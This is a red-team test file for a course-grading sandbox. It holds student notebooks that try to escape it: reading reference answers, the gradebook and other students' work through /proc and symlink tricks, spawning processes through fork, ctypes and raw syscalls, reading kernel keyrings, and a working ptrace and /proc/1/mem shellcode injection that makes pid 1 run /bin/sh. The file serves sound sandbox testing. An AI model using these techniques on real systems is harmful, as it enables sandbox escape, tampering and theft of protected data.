"""Red team: student notebooks that attack sealed grading, graded by the real grading path.

Every attack is a submission. Most sit in ONE toy class (tests/toycourse.py: one
answer cell ``sigmoid_prime``, one 2-point hidden test, one written answer graded
by hand) beside honest students, and the class is graded once, sealed, with
``grade_class(course, jobs=2, feedback=True)``: the same code as ``course grade``.
A few attack the real lessons through ``course check``.

Each attack is built so that SUCCESS WOULD SHOW IN THE SCORE OR ON DISK:

- the answer cell tries to get something it must not have (the reference
  answers, the instructor's notebook, the gradebook, another student's work, a
  program that runs, a write that lands, a secret, the network...) and sets
  ``stolen``; its ``sigmoid_prime`` is right only when ``stolen`` is true, so a
  blocked attack scores exactly 0 and a successful one 2;
- what a notebook could only do to the host (a marker file in /tmp, a process
  that outlives grading, a datagram to a port of the host, a killed process)
  is looked for on the host after grading.

Paths and names that would trip the tamper reader's word list are built at run
time (``H('hex')``) and modules are taken from ``sys.modules`` (``M('ctypes')``):
those attacks test the operating-system sandbox, not the reader. A few spell
themselves out on purpose and assert the reader's flag instead.

Every attempt prints ``BLOCKED <what>: <error>`` or ``DONE <what>: <result>`` in
the autograded notebook; ``why`` in the table is the error an attack must have
met, so a typo in an attack cannot pass for a sandbox that held.
"""

from __future__ import annotations

import hashlib
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from lessons import grade, make_submission
from toycourse import (
    ASSIGNMENT,
    RIGHT,
    SIGMOID_INSTEAD,
    graded_path,
    hand_in,
    make_course,
    submission,
)

from course_lib.instructor.grade import grade_class

WRONG = SIGMOID_INSTEAD
REPO = Path(__file__).resolve().parents[1]
NORMAL = "awaiting_hand_grading"  # the written answer waits for a human
# A kernel forked from a zygote (course_lib.judge.zygote; the default) is pid 2, beside the
# sandbox's /init, which it can neither ptrace nor read; one started cold
# (COURSE_FORK_KERNELS=0) is pid 1, alone. Either way, no other process is in sight.
FORKED = os.environ.get("COURSE_FORK_KERNELS", "1") != "0"
SANDBOX_PIDS = ["1", "2"] if FORKED else ["1"]


# -- what an attack knows ------------------------------------------------------------------

@dataclass
class Target:
    """What a student could know or guess, and what the test listens with."""

    course: str  # the course folder on the grading machine
    repo: str  # the repository (the full course_lib with the answers, source/)
    token: str  # in every marker an attack leaves: searched for on the host afterwards
    victim: str  # an honest student graded before the attackers that read their work
    late_victim: str  # an honest student graded after every attacker
    tcp_port: int  # a TCP listener of the host, on 127.0.0.1
    udp_port: int  # a UDP socket of the host, on 127.0.0.1
    abstract: str  # an abstract Unix socket of the host (only a network namespace hides it)
    secret: str  # in the grader's environment (COURSE_DB_URL and SECRET_TOKEN); notebooks
    # know only its shape, SECRET_SHAPE
    canary: int  # a process of the host that must still be alive after grading

    @property
    def sleeper(self) -> str:
        """The argument of a `sleep` an attack would leave running on the host."""
        return "9" + str(int(self.token, 16) % 10**8).zfill(8)

    @property
    def comm(self) -> str:
        """The thread name (comm) an attack gives its lingering threads."""
        return "rt" + self.token[:8]


SECRET_SHAPE = "rt-secret-"


def H(text: str) -> str:
    """Python source that builds ``text`` at run time (invisible to the tamper reader)."""
    return f"H('{text.encode().hex()}')"


def code(template: str, t: Target, **more) -> str:
    """``template`` with <<name>> filled from the target (as Python literals via H or repr)."""
    ref = f"{t.repo}/course_lib/reference/sigmoid.py"
    values = {"course": H(t.course), "repo": H(t.repo), "token": repr(t.token),
              "victim": repr(t.victim), "late_victim": repr(t.late_victim),
              "tcp_port": str(t.tcp_port), "udp_port": str(t.udp_port),
              "abstract": repr(t.abstract), "secret": repr(SECRET_SHAPE), "canary": str(t.canary),
              "sleeper": repr(t.sleeper), "comm": repr(t.comm),
              "ref": H(ref), "ref_rel": H(ref.lstrip("/")), "ref_dir": H(os.path.dirname(ref)),
              "ref_module": H("course_lib.reference.sigmoid"),
              "source_nb": H(f"{t.course}/source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"),
              "source_dir": H(f"{t.course}/source/{ASSIGNMENT}"),
              "gradebook": H(f"{t.course}/gradebook.db"), "ipynb": H(".ipynb"),
              "folders": "[" + ", ".join(H(f"{t.course}/{k}") for k in
                                         ("submitted", "autograded", "feedback")) + "]",
              "late": H(f"{t.course}/autograded/survive_thread/{ASSIGNMENT}/rt-{t.token}-late"),
              "modules": "[" + ", ".join(H(m) for m in (
                  "course_lib.reference", "course_lib.reference.sigmoid",
                  "course_lib.grading.sigmoid", "course_lib.grading._core",
                  "course_lib.instructor.grade", "course_lib.judge.server")) + "]",
              "config": H(f"{t.course}/nbgrader_config.py"),
              "up": H("../" * 12), **more}
    return re.sub(r"<<(\w+)>>", lambda m: values[m.group(1)], template)


PRELUDE = '''\
import json
import os
import struct
import sys
import threading
import time

stolen = False


def H(x):
    return bytes.fromhex(x).decode()


def M(name):
    mods = sys.modules
    if name not in mods:
        mods["importlib"].import_module(name)
    return mods[name]


def attempt(label, fn):
    try:
        result = fn()
    except Exception as exc:
        print(f"BLOCKED {label}: {type(exc).__name__}: {exc}"[:400])
        return None
    print(f"DONE {label}: {str(result)[:200]}")
    return True if result is None else result


def read(path):
    with open(path, "rb") as f:
        return f.read(1 << 22).decode(errors="replace")


def has(text, *needles):
    return bool(text) and all(n in text for n in needles)


def write(path, data="rt"):
    with open(path, "w") as f:
        f.write(data)
    return path


def judge_address():
    return [v for v in os.environ.values() if v.endswith(".sock")][0]


def connect():
    so = M("_socket")
    s = so.socket(so.AF_UNIX, so.SOCK_STREAM)
    s.connect(judge_address())
    return s


def frame(message):
    body = json.dumps(message).encode()
    return struct.pack(">Q", len(body)) + body


def recv_exactly(s, n):
    data = b""
    while len(data) < n:
        chunk = s.recv(n - len(data))
        if not chunk:
            raise EOFError("the judge closed the connection")
        data += chunk
    return data


def read_frame(s):
    (n,) = struct.unpack(">Q", recv_exactly(s, 8))
    return json.loads(recv_exactly(s, n))


def send_and_wait(data):
    """Raw bytes on a new connection; returns what the judge said before closing it."""
    s = connect()
    s.sendall(data)
    s.settimeout(30)
    said = b""
    while True:
        chunk = s.recv(1 << 16)
        if not chunk:
            break
        said += chunk
    s.close()
    return said


def libc():
    ctypes = M("ctypes")
    lib = ctypes.CDLL(None, use_errno=True)
    return ctypes, lib

'''

# sigmoid_prime, right only if the attack got what it wanted
STOLEN_ANSWER = '''

def sigmoid_prime(z):
    import numpy as np
    s = 1 / (1 + np.exp(-np.asarray(z, dtype=float)))
    return s * (1 - s) if stolen else s
'''


def answer_cell(body: str, answer: str | None) -> str:
    """The attack, then sigmoid_prime: `answer` (RIGHT/WRONG), or None for 'right iff stolen'."""
    return PRELUDE + body.rstrip() + "\n" + (STOLEN_ANSWER if answer is None
                                             else "\n\n" + answer + "\n")


def notebook(body: str, t: Target, *, answer: str | None = None, before=(), **more):
    """A submission whose answer cell is the attack; `before`: extra cells ahead of it."""
    nb = submission(answer_cell(code(body, t, **more), answer))
    for k, src in enumerate(before):
        nb.cells.insert(1 + k, nbformat.v4.new_code_cell(code(src, t, **more)))
    return nb


# -- the attacks --------------------------------------------------------------------------------
# Each body runs inside the sandbox as the answer cell; it sets `stolen` on success.

READ_BY_PATH = '''
text = attempt("open the reference by its path", lambda: read(<<ref>>))
stolen = has(text, "def sigmoid_prime")
'''

READ_VIA_PROC = '''
for base in ("/proc/self/root", "/proc/thread-self/root", "/proc/1/root",
             "/proc/1/cwd/" + <<up>>, "/proc/self/cwd/" + <<up>>):
    text = attempt("open via " + base[:20], lambda: read(base + <<ref>>))
    stolen = stolen or has(text, "def sigmoid_prime")
'''

READ_WITH_DIR_FD = '''
def from_root_fd():
    root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    fd = os.open(<<ref_rel>>, os.O_RDONLY, dir_fd=root)
    return os.read(fd, 1 << 20).decode()


def from_cwd_fd():
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    fd = os.open(<<up>> + <<ref_rel>>, os.O_RDONLY, dir_fd=here)
    return os.read(fd, 1 << 20).decode()


def from_proc_fd():
    root = os.open("/proc/self/root", os.O_RDONLY | os.O_DIRECTORY)
    return read(f"/proc/self/fd/{root}/" + <<ref_rel>>)


for fn in (from_root_fd, from_cwd_fd, from_proc_fd):
    stolen = stolen or has(attempt(fn.__name__, fn), "def sigmoid_prime")
'''

READ_THROUGH_SYMLINKS = '''
attempt("link the repository", lambda: os.symlink(<<repo>>, "repo_link"))
attempt("link pid 1's root", lambda: os.symlink("/proc/1/root", "root_link"))
attempt("link the course", lambda: os.symlink(<<course>>, "course_link"))
rel = <<ref>>[len(<<repo>>):]
for path in ("repo_link" + rel, "root_link" + <<ref>>):
    text = attempt("read through " + path.split("/")[0], lambda: read(path))
    stolen = stolen or has(text, "def sigmoid_prime")
listing = attempt("list the course through a link", lambda: os.listdir("course_link"))
stolen = stolen or bool(listing)
'''

READ_SPEC_FROM_FILE = '''
util = M("importlib.util")


def load_source():
    spec = util.spec_from_file_location("stolen_reference", <<ref>>)
    return spec.loader.get_data(<<ref>>).decode()


def load_module():
    spec = util.spec_from_file_location("stolen_reference", <<ref>>)
    module = util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.sigmoid_prime


stolen = has(attempt("loader.get_data", load_source), "def sigmoid_prime")
stolen = stolen or attempt("loader.exec_module", load_module) is not None
'''

IMPORT_BY_PATH_HOOKS = '''
machinery = M("importlib.machinery")
importlib = M("importlib")


def through_sys_path():
    sys.path.insert(0, <<repo>>)
    saved = {k: sys.modules.pop(k) for k in list(sys.modules)
             if k == "course_lib" or k.startswith("course_lib.")}
    try:
        return importlib.import_module(<<ref_module>>).sigmoid_prime
    finally:
        sys.path.remove(<<repo>>)
        sys.modules.update(saved)


def through_file_finder():
    finder = machinery.FileFinder(<<ref_dir>>, (machinery.SourceFileLoader, [".py"]))
    spec = finder.find_spec("activations")
    return spec.loader.get_data(spec.origin).decode()


def through_path_hook():
    spec = machinery.PathFinder.find_spec("activations", [<<ref_dir>>])
    return spec.loader.get_data(spec.origin).decode()


stolen = attempt("sys.path + import_module", through_sys_path) is not None
stolen = stolen or has(attempt("FileFinder", through_file_finder), "def sigmoid_prime")
stolen = stolen or has(attempt("PathFinder", through_path_hook), "def sigmoid_prime")
'''

IMPORT_FROM_RUNTIME = '''
importlib = M("importlib")
for module_name in <<modules>>:
    module = attempt("import " + module_name, lambda: importlib.import_module(module_name))
    stolen = stolen or module is not None
listing = attempt("walk the runtime's course_lib", lambda: sorted(
    os.path.relpath(os.path.join(d, f), M("course_lib").__path__[0])
    for d, _, fs in os.walk(M("course_lib").__path__[0]) for f in fs))
stolen = stolen or any(p.startswith(("reference", "instructor")) or p.endswith(
    ("server.py", "sealed.py", "tamper.py", "sandbox.py")) for p in listing or [])
'''

READ_SOURCE_NOTEBOOK = '''
text = attempt("open the instructor's notebook", lambda: read(<<source_nb>>))
stolen = has(text, "BEGIN SOLUTION")
listing = attempt("list the course", lambda: os.listdir(<<course>>))
stolen = stolen or bool(listing)
listing = attempt("list source/", lambda: os.listdir(<<source_dir>>))
stolen = stolen or bool(listing)
'''

READ_GRADEBOOK_SQLITE = '''
gradebook = <<gradebook>>


def read_only():
    db = M("sqlite3").connect("file:" + gradebook + "?mode=ro", uri=True)
    return db.execute("select name from sqlite_master").fetchall()


def through_proc_root():
    db = M("sqlite3").connect("file:/proc/self/root" + gradebook + "?mode=ro", uri=True)
    return db.execute("select name from sqlite_master").fetchall()


stolen = bool(attempt("sqlite3, read-only", read_only))
stolen = stolen or bool(attempt("sqlite3 via /proc/self/root", through_proc_root))
'''

WRITE_GRADEBOOK_SQLITE = '''
gradebook = <<gradebook>>


def give_everyone_the_written_point():
    db = M("sqlite3").connect(gradebook, timeout=5)
    db.execute("update grade set manual_score = 1")
    db.commit()
    return db.total_changes


stolen = bool(attempt("sqlite3 update", give_everyone_the_written_point))
'''

READ_OTHER_STUDENT = '''
for folder in <<folders>>:
    for victim in (<<victim>>, <<late_victim>>):
        for leaf in ("/99_toy/99_toy" + <<ipynb>>, "/99_toy/99_toy.html"):
            text = attempt("read " + folder[-10:] + "/" + victim + leaf[-5:],
                           lambda: read(folder + "/" + victim + leaf))
            stolen = stolen or has(text, "sigmoid_prime")
    stolen = stolen or bool(attempt("list " + folder[-10:], lambda: os.listdir(folder)))
'''

GLOB_THE_FILESYSTEM = '''
glob = M("glob")


def search(top):
    hits = []
    for folder, subfolders, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/dev", "/home/student", "/submission")):
            # not /proc and co, nor its own submission (the copy and the original)
            subfolders[:] = []
            continue
        for name in files:
            path = os.path.join(folder, name)
            if name == "sigmoid.py" or name.endswith((<<ipynb>>, ".db", ".html")):
                text = attempt_quiet(path)
                if has(text, "PRE-activation z") or has(text, "sigmoid_prime_values"):
                    hits.append(path)  # the reference, the course's notebooks or gradebook
    return hits


def attempt_quiet(path):
    try:
        return read(path)
    except OSError:
        return ""


hits = attempt("walk /", lambda: search("/"))
stolen = bool(hits)
venv = os.path.dirname(os.path.dirname(M("numpy").__path__[0]))
found = attempt("glob the venv", lambda: glob.glob(venv + "/**/course_lib/re*/*.py", recursive=True)
                + glob.glob(venv + "/**" + <<source_dir>>[len(<<course>>):] + "/*", recursive=True))
stolen = stolen or bool(found)
'''

READ_PROC_OF_EVERY_PID = '''
def scan():
    seen = []
    for pid in os.listdir("/proc"):
        if not (pid.isdigit() or pid in ("self", "thread-self")):
            continue
        for leaf in ("environ", "cmdline", "mountinfo", "maps", "status"):
            try:
                text = read(f"/proc/{pid}/{leaf}")
            except OSError:
                continue
            if <<course>> in text or <<secret>> in text or "postgresql" in text:
                seen.append(f"{pid}/{leaf}")
    return seen


found = attempt("scan /proc/*", scan)
stolen = bool(found)
print("pids seen:", sorted(p for p in os.listdir("/proc") if p.isdigit()))
'''

READ_OTHER_KERNELS = '''
glob = M("glob")


def sockets_and_connection_files():
    found = []
    for top in glob.glob("/tmp/course-judge-*") + glob.glob("/tmp/*/course-judge-*"):
        for folder, _, files in os.walk(top):
            found += [os.path.join(folder, f) for f in files
                      if f in ("judge.sock", "kernel.json") or f.startswith("k-")]
    return found


found = attempt("find judge sockets and kernel files", sockets_and_connection_files) or []
sockets = [p for p in found if p.endswith("judge.sock")]
connection_files = [p for p in found if p.endswith("kernel.json")]
print("visible:", found)
stolen = len(sockets) > 1 or len(connection_files) > 1
for path in sockets:
    if path != judge_address():
        stolen = stolen or attempt("connect " + path, lambda: M("_socket").socket(
            1, 1).connect(path)) is not None
'''

READ_INHERITED_FDS = '''
def outside_folders():
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            names = os.listdir(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        target = os.readlink(f"/proc/self/fd/{fd}")
        if not os.path.isdir(target) or set(names) != set(os.listdir(target)):
            found.append((fd, target, names[:5]))
        try:
            up = os.open(<<up>>, os.O_RDONLY | os.O_DIRECTORY, dir_fd=int(fd))
            if os.path.exists(f"/proc/self/fd/{up}" + <<ref>>):
                found.append((fd, "reaches the reference"))
        except (OSError, ValueError):
            pass
    return found


found = attempt("directory fds that lead outside", outside_folders)
stolen = bool(found)
print("fds:", {fd: os.readlink("/proc/self/fd/" + fd) for fd in os.listdir("/proc/self/fd")
               if os.path.exists("/proc/self/fd/" + fd)})
'''

READ_REAL_TORCH = '''
glob = M("glob")
site = os.path.dirname(M("numpy").__path__[0])


def real_torch_files():
    return (glob.glob(site + "/torch/_C*.so") + glob.glob(site + "/torch/lib/libtorch*")
            + glob.glob("/proc/self/root" + site + "/torch/lib/libtorch*"))


def use_torch():
    return M("torch").tensor([1.0]).sum()


stolen = bool(attempt("find torch's real files", real_torch_files))
stolen = stolen or attempt("use torch", use_torch) is not None
'''

SPAWN_SUBPROCESS = '''
run = attempt("subprocess.run", lambda: M("subprocess").run(["/bin/true"]).returncode)
out = attempt("check_output", lambda: M("subprocess").check_output(["/bin/echo", "ran"]))
popen = attempt("Popen via shell", lambda: M("subprocess").Popen("true", shell=True).wait())
stolen = run == 0 or out == b"ran\\n" or popen == 0
'''

SPAWN_SUBPROCESS_IMPORTED = '''
import subprocess

stolen = attempt("subprocess.run", lambda: subprocess.run(["/bin/true"]).returncode) == 0
'''

SPAWN_OS_SYSTEM = '''
status = attempt("os.system", lambda: os.system("touch ran-os-system"))
piped = attempt("os.popen", lambda: os.popen("echo ran").read())
stolen = status == 0 or piped == "ran\\n" or os.path.exists("ran-os-system")
'''

READ_KEYRINGS = '''
import ctypes
import platform

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]


def call(*args):
    result = _libc.syscall(*args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def describe(ring):  # KEYCTL_DESCRIBE: the keyring whoever started the grader holds
    buffer = ctypes.create_string_buffer(256)
    call(KEYCTL, 6, ctypes.c_long(ring), buffer, 256)
    return buffer.value


stolen = attempt("describe the session keyring", lambda: describe(-3)) is not None
stolen = attempt("describe the user keyring", lambda: describe(-4)) is not None or stolen
stolen = attempt("add a key for the next kernel", lambda: call(
    ADD_KEY, b"user", b"left-for-the-next", b"x", 1, ctypes.c_long(-3))) is not None or stolen
stolen = bool(attempt("/proc/keys", lambda: read("/proc/keys"))) or stolen
'''

SPAWN_POSIX_SPAWN = '''
def spawn():
    pid = os.posix_spawn("/bin/true", ["true"], {})
    return os.waitpid(pid, 0)


def spawnp():
    pid = os.posix_spawnp("true", ["true"], {})
    return os.waitpid(pid, 0)


stolen = attempt("posix_spawn", spawn) is not None
stolen = attempt("posix_spawnp", spawnp) is not None or stolen
stolen = attempt("spawnv", lambda: os.spawnv(os.P_WAIT, "/bin/true", ["true"])) == 0 or stolen
'''

SPAWN_FORK = '''
def fork():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    return os.waitpid(pid, 0)


def forkpty():
    pid, fd = os.forkpty()
    if pid == 0:
        os._exit(0)
    return pid


stolen = attempt("os.fork", fork) is not None
stolen = attempt("os.forkpty", forkpty) is not None or stolen
stolen = attempt("pty.fork", lambda: M("pty").fork()[0] >= 0) is not None or stolen
'''

SPAWN_MULTIPROCESSING = '''
mp = M("multiprocessing")


def with_process(method):
    ctx = mp.get_context(method)
    p = ctx.Process(target=os.getpid)
    p.start()
    p.join(20)
    return p.exitcode


stolen = any(attempt("Process " + m, lambda: with_process(m)) == 0
             for m in ("fork", "spawn", "forkserver"))
stolen = stolen or attempt("Pool", lambda: mp.get_context("fork").Pool(1).map(abs, [-1])) == [1]
'''

SPAWN_FROM_A_THREAD = '''
results = []


def in_a_thread():
    results.append(attempt("os.system in a thread", lambda: os.system("true")))
    results.append(attempt("posix_spawn in a thread",
                           lambda: os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)[1]))
    results.append(attempt("fork in a thread", lambda: os.fork()))


t = threading.Thread(target=in_a_thread)
t.start()
t.join(30)
stolen = 0 in results
'''

SPAWN_CTYPES_LIBC = '''
ctypes, lib = libc()
print("system:", lib.system(b"touch ran-libc-system"), ctypes.get_errno())
print("fork:", lib.fork(), ctypes.get_errno())
print("vfork via syscall:", lib.syscall(58), ctypes.get_errno())
stolen = os.path.exists("ran-libc-system")
argv = (ctypes.c_char_p * 3)(b"/bin/true", None, None)
print("execve:", lib.execve(b"/bin/true", argv, None), ctypes.get_errno())  # would end the kernel
print("BLOCKED execve: errno", ctypes.get_errno())
'''

SPAWN_RAW_SYSCALLS = '''
ctypes, lib = libc()
lib.syscall.restype = ctypes.c_long
calls = {"fork": (57,), "vfork": (58,), "clone (a process)": (56, 17, 0, 0, 0, 0),
         "clone3": (435, 0, 0), "execveat": (322, -100, b"/bin/true", None, None, 0),
         "x32 fork": (57 | 0x40000000,), "x32 getpid": (39 | 0x40000000,),
         "ptrace attach": (101, 16, 1, 0, 0)}
for name, args in calls.items():
    rc = lib.syscall(*args)
    errno = ctypes.get_errno()
    if rc == 0 and name in ("fork", "vfork", "clone (a process)"):
        os._exit(0)  # the child, if one was made
    print(("DONE" if rc >= 0 else "BLOCKED") + f" {name}: {rc} errno {errno}")
    stolen = stolen or (rc > 0 and name != "x32 getpid")
'''

SPAWN_CELL_MAGICS = [
    "%%bash\ntouch ran-bash",
    "%%script sh\ntouch ran-script",
    "%%sh\ntouch ran-sh",
    "!touch ran-bang",
    "%system touch ran-system",
    "x = %sx touch ran-sx",
    "get_ipython().system_raw('touch ran-system-raw')",
]
SPAWN_CELL_MAGICS_ANSWER = '''
ran = [f for f in os.listdir(".") if f.startswith("ran-")]
print("DONE magics left:", ran)
stolen = bool(ran)
'''

SPAWN_ASYNCIO = '''
asyncio = M("asyncio")


async def run():
    proc = await asyncio.create_subprocess_exec("/bin/true")
    return await proc.wait()


def in_thread():
    box = []
    t = threading.Thread(target=lambda: box.append(attempt("asyncio subprocess",
                                                           lambda: asyncio.run(run()))))
    t.start()
    t.join(30)
    return box[0] if box else None


stolen = in_thread() == 0
'''

SPAWN_VIA_PID_1 = '''
ctypes, lib = libc()
lib.ptrace.restype = ctypes.c_long
lib.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp "
        "ss fs_base gs_base ds es fs gs").split()]


def inject(target_pid, command):
    """Make `target_pid` (bwrap's init: no system-call filter) exec /bin/sh -c command."""
    if target_pid == os.getpid():
        raise PermissionError("pid 1 is this kernel itself: no other process to take over")
    if lib.ptrace(16, target_pid, None, None) != 0:
        raise PermissionError(f"PTRACE_ATTACH refused, errno {ctypes.get_errno()}")
    os.waitpid(target_pid, 0x40000000)
    regs = Regs()
    lib.ptrace(12, target_pid, None, ctypes.byref(regs))
    if lib.ptrace(1, target_pid, ctypes.c_void_p(regs.rip - 2), None) & 0xFFFF != 0x050F:
        lib.ptrace(17, target_pid, None, None)
        raise RuntimeError("pid 1 is not stopped in a system call")
    strings = [b"/bin/sh\\0", b"-c\\0", command.encode() + b"\\0"]
    base, blob, addresses = regs.rsp + 64, b"", []
    for s in strings:
        addresses.append(base + len(blob))
        blob += s
    blob += b"\\0" * (-len(blob) % 8)
    argv = base + len(blob)
    for a in addresses + [0]:
        blob += a.to_bytes(8, "little")
    for i in range(0, len(blob), 8):
        lib.ptrace(5, target_pid, ctypes.c_void_p(base + i),
                   ctypes.c_void_p(int.from_bytes(blob[i:i + 8], "little")))
    regs.rip, regs.rax, regs.orig_rax = regs.rip - 2, 59, 2**64 - 1
    regs.rdi, regs.rsi, regs.rdx = addresses[0], argv, 0
    lib.ptrace(13, target_pid, None, ctypes.byref(regs))
    lib.ptrace(17, target_pid, None, None)
    return "pid 1 now runs /bin/sh"


def shellcode(command):
    """x86-64, position-independent: execve("/bin/sh", ["/bin/sh", "-c", command], NULL)."""
    data = [b"/bin/sh\\0", b"-c\\0", command.encode() + b"\\0"]
    tail = b"\\x6a\\x00\\x52\\x50\\x57\\x48\\x89\\xe6\\x31\\xd2\\xb8\\x3b\\x00\\x00\\x00\\x0f\\x05"
    code_len = 3 * 7 + len(tail)
    offsets = [code_len, code_len + len(data[0]), code_len + len(data[0]) + len(data[1])]
    code = b""
    leas = (b"\\x48\\x8d\\x3d", b"\\x48\\x8d\\x05", b"\\x48\\x8d\\x15")  # rdi, rax, rdx
    for opcode, offset in zip(leas, offsets):
        end = len(code) + 7  # lea rdi/rax/rdx, [rip + offset]
        code += opcode + (offset - end).to_bytes(4, "little", signed=True)
    return code + tail + b"".join(data)


def overwrite_pid_1(command):
    """No ptrace: write code where pid 1 (blocked in wait()) resumes, via /proc/1/mem.
    It runs when pid 1's child, this kernel, exits: after grading."""
    if os.getpid() == 1:
        raise PermissionError("pid 1 is this kernel itself: no other process to take over")
    pc = int(read("/proc/1/syscall").split()[-1], 16)
    with open("/proc/1/mem", "r+b") as mem:
        mem.seek(pc)
        mem.write(shellcode(command))
    return f"pid 1 will run /bin/sh at {pc:#x}"


marker = os.path.abspath("ran-through-pid-1")
survive = f"exec setpriv --pdeathsig clear sleep {<<sleeper>>}"
attempt("take over pid 1 with ptrace", lambda: inject(1, f"echo ran > {marker}; {survive}"))
attempt("take over pid 1 through /proc/1/mem", lambda: overwrite_pid_1(survive))
time.sleep(1)
stolen = os.path.exists(marker)  # the ptrace way runs now; the other only after the notebook
'''

WRITE_INTO_THE_VENV = '''
site = os.path.dirname(M("numpy").__path__[0])
targets = [site + "/rt-" + <<token>> + "-venv.pth", site + "/numpy/rt-" + <<token>> + ".py",
           os.path.dirname(sys.executable) + "/rt-" + <<token>> + "-bin",
           sys.base_prefix + "/rt-" + <<token>> + "-base", "/usr/lib/rt-" + <<token>> + "-usr",
           "/usr/local/rt-" + <<token>> + "-usr-local"]
for path in targets:
    stolen = attempt("write " + path, lambda: write(path)) is not None or stolen
stolen = attempt("append to numpy/__init__.py",
                 lambda: open(site + "/numpy/__init__.py", "a").close()) is not None or stolen
stolen = attempt("chmod numpy", lambda: os.chmod(site + "/numpy", 0o777)) is not None or stolen
'''

WRITE_INTO_THE_RUNTIME = '''
runtime = os.environ["PYTHONPATH"].split(":")[0]
client = M("importlib").import_module("course_lib.judge.client").__file__
targets = [runtime + "/rt-" + <<token>>, runtime + "/course_lib/rt-" + <<token>> + ".py",
           os.path.dirname(judge_address()) + "/rt-" + <<token>>]
for path in targets:
    stolen = attempt("write " + path, lambda: write(path)) is not None or stolen
for label, fn in (("append to the judge's client", lambda: open(client, "a").close()),
                  ("remove the judge's socket", lambda: os.unlink(judge_address())),
                  ("rename the judge's socket",
                   lambda: os.rename(judge_address(), judge_address() + ".x")),
                  ("chmod the runtime", lambda: os.chmod(runtime, 0o777))):
    stolen = attempt(label, fn) is not None or stolen
'''

# A path under /tmp (a course or a clone there) also exists inside the sandbox, as
# the folders bwrap makes on the sandbox's own /tmp to bind the venv: writing there
# reaches nothing of the host's, so it counts only on another filesystem (and
# test_no_marker_of_an_attack_exists_anywhere_on_the_host looks on the host).
ESCAPED = '''
OWN = {os.stat(p).st_dev for p in ("/tmp", os.path.expanduser("~"), ".")}


def escaped(path):
    return os.stat(path).st_dev not in OWN

'''

WRITE_INTO_THE_COURSE = ESCAPED + '''
course, repo = <<course>>, <<repo>>
targets = [course + "/rt-" + <<token>> + "-course", <<source_dir>> + "/rt-" + <<token>>,
           repo + "/rt-" + <<token>> + "-repo", <<ref_dir>> + "/rt-" + <<token>> + ".py"]
for path in targets:
    done = attempt("write " + path, lambda: write(path))
    stolen = stolen or (done is not None and escaped(path))
config = attempt("append to the course's config", lambda: open(<<config>>, "a").close())
stolen = stolen or (config is not None and escaped(<<config>>))
folder = course + "/rt-" + <<token>> + "-dir"
made = attempt("mkdir in the course", lambda: os.mkdir(folder))
stolen = stolen or (made is not None and escaped(folder))
'''

WRITE_INTO_OTHER_STUDENTS = '''
submitted, autograded, feedback = <<folders>>
forged = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
for folder, student in ((submitted, <<late_victim>>), (submitted, <<victim>>),
                        (autograded, <<victim>>), (feedback, <<victim>>)):
    base = folder + "/" + student + "/99_toy/"
    done = attempt("overwrite " + base[-40:],
                   lambda: write(base + "99_toy" + <<ipynb>>, json.dumps(forged)))
    stolen = stolen or done is not None
    done = attempt("add to " + base[-40:], lambda: write(base + "rt-" + <<token>>))
    stolen = stolen or done is not None
'''

WRITE_INTO_HOST_TMP = '''
for path in ("/tmp/rt-" + <<token>> + "-tmp", "/dev/shm/rt-" + <<token>> + "-shm",
             "/var/tmp/rt-" + <<token>> + "-var-tmp", "/home/student/rt-" + <<token>> + "-home"):
    attempt("write " + path, lambda: write(path))  # lands in the sandbox's own tmpfs, if anywhere
'''

WRITE_VIA_PATH_TRICKS = '''
course = <<course>>
name = "/rt-" + <<token>> + "-trick"
for label, path in (("via /proc/self/root", "/proc/self/root" + course + name),
                    ("via /proc/1/cwd", "/proc/1/cwd/" + <<up>> + course + name)):
    stolen = attempt(label, lambda: write(path)) is not None or stolen


def via_dir_fd():
    root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    fd = os.open(course.lstrip("/") + name, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=root)
    return os.write(fd, b"rt")


def via_symlink():
    os.symlink(course, "course_dir_link")
    return write("course_dir_link" + name)


def via_hardlink():
    os.link(sys.executable, "python_link")  # a file of the host, hard-linked into the copy
    return "linked"


def via_dangling_symlink():
    os.symlink(course + name, "dangling")
    return write("dangling")


for fn in (via_dir_fd, via_symlink, via_hardlink, via_dangling_symlink):
    stolen = attempt(fn.__name__, fn) is not None or stolen
'''

WRITE_INTO_THE_ROOT = '''
for path in ("/rt-" + <<token>>, "/etc/rt-" + <<token>>, "/root/rt-" + <<token>>,
             "/dev/rt-" + <<token>>, "/dev/shm/rt-" + <<token>>):  # tmpfs without a size
    stolen = attempt("write " + path, lambda: write(path)) is not None or stolen
stolen = attempt("mkdir /opt", lambda: os.mkdir("/opt-rt-" + <<token>>)) is not None or stolen
'''

FILL = '''

def fill(folder, files=5, mib=60):
    """Write files * mib MiB into folder; the count of MiB written."""
    done = 0
    chunk = b"x" * (1 << 20)
    try:
        for i in range(files):
            with open(os.path.join(folder, f"fill-{i}"), "wb") as f:
                for _ in range(mib):
                    f.write(chunk)
                    done += 1
    finally:
        for i in range(files):
            try:
                os.unlink(os.path.join(folder, f"fill-{i}"))
            except OSError:
                pass
    return done

'''

WRITE_PAST_A_QUOTA_IN_THE_COPY = FILL + '''
written = attempt("300 MiB into the scratch copy", lambda: fill("."))
stolen = written == 300
